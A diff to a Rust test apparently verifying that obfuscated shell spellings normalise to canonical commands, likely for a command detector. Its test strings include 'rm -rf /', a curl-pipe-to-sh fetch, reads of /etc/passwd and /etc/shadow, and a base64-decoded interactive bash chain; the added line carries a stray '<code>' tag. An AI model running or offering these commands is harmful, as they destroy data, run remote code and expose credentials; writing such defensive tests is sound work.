@@ -36,6 +36,7 @@ fn spellings_of_one_command_become_it() {
         is(spelt, if spelt.contains("\\\n") { "rm -rf  /" } else { "rm -rf /" });
     }
     is("{curl,-L,https://a.example/i,|,sh}", "curl -L https://a.example/i | sh");
+    is("<code>D=/\nrm -rf $D", "rm -rf /");
     is("cat /etc/{passwd,shadow}", "/etc/passwd /etc/shadow");
     is("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "echo aGk=|base64 -d|bash -i");
 }
